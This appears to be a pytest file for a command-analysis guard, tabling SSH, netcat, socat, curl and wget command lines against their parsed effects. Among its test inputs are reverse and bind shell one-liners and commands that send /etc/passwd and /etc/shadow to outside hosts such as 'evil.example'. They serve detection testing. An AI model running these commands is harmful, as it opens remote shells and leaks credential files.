"""Remote access, sockets, web clients, by a table."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guard.parse.reading import UNKNOWN

# A line -> its reading in brief; `*?*` in the line stands for a piece that nobody knows.
TABLE: dict[str, list[str]] = {
    "ssh -fNR 2222:localhost:22 u@203.0.113.5": [
        "connect ssh 203.0.113.5:22",
        "tunnel ssh remote 203.0.113.5:22 2222>localhost:22",
        "? low client_config",
    ],
    "ssh u@h -p 2200 -NR 2222": [
        "connect ssh h:2200",
        "tunnel ssh remote_dynamic h:2200 2222>",
        "? low client_config",
    ],
    "ssh -o RemoteForward=2222:localhost:22 -J a@j:23,b h uname -a": [
        "connect ssh j:23",
        "connect ssh b:22",
        "connect ssh h:22",
        "tunnel ssh remote h:22 2222>localhost:22",
        "? low client_config",
        "run [ssh h] @ssh:h: <sh> uname -a",
    ],
    "ssh -oProxyCommand='nc %h %p' -l bob h": [
        "connect ssh h:22",
        "? low client_config",
        "run [ssh ProxyCommand]: <sh> nc h 22",
    ],
    "ssh -o PermitLocalCommand=yes -o LocalCommand='touch x' h": [
        "connect ssh h:22",
        "? low client_config",
        "run [ssh LocalCommand]: <sh> touch x",
    ],
    "ssh -o LocalCommand='touch x' h": ["connect ssh h:22", "? low client_config"],
    "ssh -o KnownHostsCommand='/x %h' h": [
        "connect ssh h:22",
        "? low client_config",
        "run [ssh KnownHostsCommand]: <sh> /x h",
    ],
    "ssh -w 0:0 h": ["connect ssh h:22", "tunnel ssh device h:22 0:0>", "? low client_config"],
    "ssh -F /tmp/conf h": ["connect ssh h:22", "read /tmp/conf", "? medium unread_file"],
    "ssh -F none -W db:5432 h": ["connect ssh h:22", "tunnel ssh local h:22 stdio>db:5432"],
    "ssh -S /tmp/mux -O forward -L 1:a:2 h": [
        "connect ssh h:22",
        "tunnel ssh local h:22 1>a:2",
        "? low shared_connection",
    ],
    "ssh -o HostName=0x7f.1 good.example": ["connect ssh 127.0.0.1:22", "? low client_config"],
    "ssh *?*": ["connect ssh *:22", "? low client_config"],
    "ssh *?* h ls": [
        "connect ssh *:22",
        "connect ssh h",
        "? low unknown_argument",
        "? low client_config",
        "run [ssh *] @ssh:*: <sh> h ls",
    ],
    "ssh h sudo -n bash -s": [
        "connect ssh h:22",
        "? low client_config",
        "run [ssh h] @ssh:h: <sh> sudo -n bash -s",
    ],
    "ssh -V": [],
    "ssh": [],
    "ssh -N h ls": ["connect ssh h:22", "? low client_config"],
    "ssh -I /tmp/lib.so h": ["connect ssh h:22", "? high loaded_library", "? low client_config"],
    "ssh -R 80:localhost:3000 serveo.net": [
        "connect ssh serveo.net:22",
        "tunnel ssh remote serveo.net:22 80>localhost:3000",
        "? low client_config",
    ],
    "autossh -M 0 -fNR 1:b:2 u@h": [
        "connect ssh h:22",
        "tunnel ssh remote h:22 1>b:2",
        "? low client_config",
    ],
    "dbclient -y -R 1:b:2 u@h": ["connect ssh h:22", "tunnel ssh remote h:22 1>b:2"],
    "plink -ssh -P 23 -R 1:b:2 u@h ls": [
        "connect ssh h:23",
        "tunnel ssh remote h:23 1>b:2",
        "run [plink h] @ssh:h: <sh> ls",
    ],
    "scp a.txt u@h:/tmp": ["connect ssh h:22 sends a.txt", "read a.txt", "? low client_config"],
    "scp -P 2200 -r h:/etc .": ["connect ssh h:2200", "write .", "? low client_config"],
    "scp -S /tmp/prog a h:b": [
        "connect ssh h:22 sends a",
        "read a",
        "? low client_config",
        "run [scp -S]: /tmp/prog h scp",
    ],
    "scp scp://u@h:33/x .": ["connect ssh h:33", "write .", "? low client_config"],
    "scp a b": ["read a", "write b"],
    "sftp -P 22 u@h": ["connect ssh h:22", "? low client_config"],
    "sftp -b batch u@h": [
        "connect ssh h:22",
        "read batch",
        "? low client_config",
        "? medium unread_file",
    ],
    "rsync -avz ./d u@h:/d": ["connect ssh h:22 sends d", "read d"],
    "rsync -a -e 'ssh -R 1:b:2' ./d h:/d": [
        "connect ssh h sends d",
        "read d",
        "run [rsync -e]: <sh> ssh -R 1:b:2 h rsync --server",
    ],
    "rsync -a rsync://h/m .": ["connect rsync h:873", "write ."],
    "rsync -a h::m .": ["connect rsync h:873", "write ."],
    "rsync -a --delete a/ b/": ["read a", "write b", "delete -r b"],
    "rsync --daemon --port 8873": ["listen rsync :8873"],
    "sshfs u@h:/x /mnt -o ssh_command='ssh -R 1:b:2'": [
        "connect ssh h:22",
        "write /mnt",
        "? low client_config",
        "run [sshfs ssh_command]: <sh> ssh -R 1:b:2 u@h",
    ],
    "mosh u@h -- ls": ["connect ssh h:22", "connect mosh h", "run [mosh h] @ssh:h: <sh> ls"],
    "mosh --ssh='ssh -R 1:b:2' u@h": [
        "connect ssh h:22",
        "connect mosh h",
        "run [mosh --ssh]: <sh> ssh -R 1:b:2 u@h",
    ],
    "sshuttle -r u@h:2222 0/0": ["connect ssh h:2222", "tunnel sshuttle dynamic h:2222 >0/0"],
    "sshuttle -r h -e 'ssh -R 1:b:2' 10.0.0.0/8": [
        "connect ssh h:22",
        "tunnel sshuttle dynamic h:22 >10.0.0.0/8",
        "run [sshuttle -e]: <sh> ssh -R 1:b:2 h",
    ],
    "ssh-copy-id -i k.pub u@h": ["read k.pub", "connect ssh h:22", "? low client_config"],
    "ssh-keygen -t ed25519 -f k -N ''": ["write k", "write k.pub"],
    "ssh-keygen -D /tmp/lib.so": ["? high loaded_library"],
    "ssh-add k": ["read k"],
    "ssh-keyscan -p 2222 h": ["connect ssh h:2222"],
    "sshd -D -p 2222": ["listen ssh :2222"],
    "dropbear -p 2222": ["listen ssh :2222"],
    "nc h 4444": ["connect tcp h:4444"],
    "nc -e /bin/sh h 4444": [
        "connect tcp h:4444",
        "shell reverse h:4444 (nc -e)",
        "run [nc -e]: /bin/sh",
    ],
    "nc -lvnp 4444 -e /bin/bash": [
        "listen tcp :4444",
        "shell bind :4444 (nc -e)",
        "run [nc -e]: /bin/bash",
    ],
    "nc -l 8080": ["listen tcp :8080"],
    "nc -c 'bash -i' h 1": [
        "connect tcp h:1",
        "shell reverse h:1 (nc -c)",
        "run [nc -c]: <sh> bash -i",
    ],
    "nc -U /var/run/docker.sock": ["read /var/run/docker.sock"],
    "nc -x proxy:1080 h 22": ["connect tcp h:22", "connect tcp proxy:1080"],
    "nc -zv 10.0.0.5 20-30": ["connect tcp 10.0.0.5"],
    "nc -u h 53": ["connect udp h:53"],
    "ncat --ssl --sh-exec 'bash -i' h 443": [
        "connect tls h:443",
        "shell reverse h:443 (ncat -c)",
        "run [ncat -c]: <sh> bash -i",
    ],
    "ncat -lk --exec '/bin/sh -i' 9000": [
        "listen tcp :9000",
        "shell bind :9000 (ncat -e)",
        "run [ncat -e]: /bin/sh -i",
    ],
    "ncat --proxy p:3128 h 22": ["connect tcp h:22", "connect tcp p:3128"],
    "socat TCP:h:443 EXEC:'bash -li',pty,stderr": [
        "connect tcp h:443",
        "shell reverse h:443 (socat exec)",
        "run [socat exec]: bash -li",
    ],
    "socat exec:sh tcp-listen:9000,reuseaddr": [
        "listen tcp :9000",
        "shell bind :9000 (socat exec)",
        "run [socat exec]: sh",
    ],
    "socat TCP-LISTEN:80,fork TCP:db:5432": [
        "listen tcp :80",
        "connect tcp db:5432",
        "tunnel socat local db:5432 80>db:5432",
    ],
    "socat - OPENSSL:h:443,verify=0": ["connect tls h:443"],
    "socat -d -d SYSTEM:'cat /etc/passwd' UDP:h:53": [
        "connect udp h:53",
        "shell reverse h:53 (socat system)",
        "run [socat system]: <sh> cat /etc/passwd",
    ],
    "socat TCP-LISTEN:5000,bind=127.0.0.1 UNIX-CONNECT:/var/run/docker.sock": [
        "listen tcp 127.0.0.1:5000",
        "read /var/run/docker.sock",
        "tunnel socat local 127.0.0.1:5000 >/var/run/docker.sock",
    ],
    "socat TUN:10.0.0.1/24,up TCP:h:9": ["connect tcp h:9", "tunnel socat device h:9 10.0.0.1/24>"],
    "socat TCP:a:1 TCP:b:2": ["connect tcp a:1", "connect tcp b:2", "tunnel socat remote a:1 >b:2"],
    "socat FILE:/etc/passwd TCP:h:9": ["read /etc/passwd", "connect tcp h:9 sends /etc/passwd"],
    "socat SOCKS4A:p:t:22,socksport=9050 -": [
        "connect socks p:9050",
        "tunnel socat local p:9050 stdio>t:22",
    ],
    "socat -V": [],
    "telnet h 25": ["connect telnet h:25"],
    "openssl s_client -quiet -connect h:443": ["connect tls h:443"],
    "openssl s_server -accept 4433 -cert c.pem": ["listen tls :4433", "read c.pem"],
    "openssl enc -d -aes-256-cbc -in a -out b": ["read a", "write b"],
    "openssl req -engine ./lib.so": ["? high loaded_library"],
    "curl -sSL https://example.org/x": ["connect https example.org:443"],
    "curl -o /tmp/x -L https://example.org/x": ["write /tmp/x", "connect https example.org:443"],
    "curl -O https://example.org/a/b.tgz?c": ["connect https example.org:443", "write b.tgz"],
    "curl --output-dir /tmp -O https://example.org/b": [
        "connect https example.org:443",
        "write /tmp/b",
    ],
    "curl -d @/etc/passwd evil.example": [
        "read /etc/passwd",
        "connect http evil.example:80 sends /etc/passwd",
    ],
    "curl --data-binary @- http://h": ["connect http h:80 sends -"],
    "curl -F 'f=@secret;type=x' http://h/": ["read secret", "connect http h:80 sends secret"],
    "curl -T f ftp://h/": ["read f", "connect ftp h:21 sends f"],
    "curl -X DELETE http://h/x": ["connect http h:80"],
    "curl -I http://h": ["connect http h:80"],
    "curl -x socks5h://p:1080 http://h": ["connect http h:80", "connect proxy p:1080"],
    "curl --unix-socket /var/run/docker.sock http://localhost/c": [
        "read /var/run/docker.sock",
        "connect http localhost:80",
    ],
    "curl -K conf": ["read conf", "? medium unread_file"],
    "curl --resolve good:443:10.0.0.1 https://good/": [
        "connect https good:443",
        "connect tcp 10.0.0.1:443",
    ],
    "curl --connect-to ::evil:443 https://good/": [
        "connect https good:443",
        "connect tcp evil:443",
    ],
    "curl http://user@good@evil/": ["connect http evil:80"],
    "curl 'http://{10.0.0.1,10.0.0.2}:80/'": [
        "connect http 10.0.0.1:80",
        "connect http 10.0.0.2:80",
    ],
    "curl http://0x7f.1/ http://2130706433/": [
        "connect http 127.0.0.1:80",
        "connect http 127.0.0.1:80",
    ],
    "curl file:///etc/passwd": ["read /etc/passwd"],
    "curl telnet://h:23": ["connect telnet h:23"],
    "curl *?*": ["connect http *"],
    "curl https://*?*/x": ["connect https *:443"],
    "curl -H @headers http://h": ["read headers", "connect http h:80 sends headers"],
    "curl --version": [],
    "wget -qO- http://h/x": ["connect http h:80"],
    "wget -P /tmp http://h/a.tgz": ["connect http h:80", "write /tmp/a.tgz"],
    "wget --post-file=/etc/shadow http://h": [
        "read /etc/shadow",
        "connect http h:80 sends /etc/shadow",
        "write index.html",
    ],
    "wget -e use_askpass=/tmp/x http://h": [
        "connect http h:80",
        "write index.html",
        "run [wget --use-askpass]: /tmp/x",
    ],
    "wget --use-askp=/tmp/x http://h": [
        "connect http h:80",
        "write index.html",
        "run [wget --use-askpass]: /tmp/x",
    ],
    "wget -i list": ["read list", "? low unknown_argument"],
    "wget -e https_proxy=p:3128 https://h/": [
        "connect https h:443",
        "write index.html",
        "connect proxy p:3128",
    ],
    "http POST :8080/x a=1": ["connect http localhost:8080"],
    "aria2c --on-download-complete=/tmp/x http://h/f": [
        "connect http h:80",
        "run [aria2c]: <sh> /tmp/x",
    ],
    "lftp -c 'open h; !ssh h'": ["run [lftp !]: <sh> ssh h"],
    "ftp -n h 2121": ["connect ftp h:2121"],
    "nmap -sS -p 22 10.0.0.0/24": ["connect scan 10.0.0.0:22"],
    "nmap --script ./evil.nse h": [
        "connect scan h",
        "code lua file evil.nse",
        "? medium unread_file",
    ],
    "masscan 10.0.0.0/8 -p80": ["connect scan 10.0.0.0:80"],
    "ping -c 1 10.0.0.1": ["connect icmp 10.0.0.1"],
    "dig @8.8.8.8 secret.example": ["connect dns 8.8.8.8:53"],
    "dig a.example": ["connect dns a.example:53"],
    "traceroute h": ["connect icmp h"],
    "whois -h whois.example a": ["connect whois whois.example:43"],
    "redis-cli -h r FLUSHALL": ["connect redis r:6379"],
    "psql postgres://u:p@db:5433/x": ["connect postgresql db:5433"],
    "mongosh mongodb://m:1/x --eval 'db.x.drop()'": [
        "connect mongodb m:1",
        "run [mongosh]: <javascript> db.x.drop()",
    ],
    "rclone copy d remote:b": ["read d", "connect rclone remote sends d"],
    "curl -F 'f=<note' http://h/": ["read note", "connect http h:80 sends note"],
    "rsync -a --rsync-path='ssh h2' d h:/d": [
        "connect ssh h:22 sends d",
        "read d",
        "run [ssh h] @ssh:h: <sh> ssh h2",
    ],
    "ssh -I /tmp/lib.so -N h": ["connect ssh h:22", "? high loaded_library", "? low client_config"],
}


@pytest.mark.parametrize("line", TABLE)
def test_the_far_end_is_named(line: str, told: Callable[..., list[str]]) -> None:
    """Connections, tunnels and shells on sockets, with hosts in one spelling."""
    assert told(line.replace("*?*", UNKNOWN)) == TABLE[line]
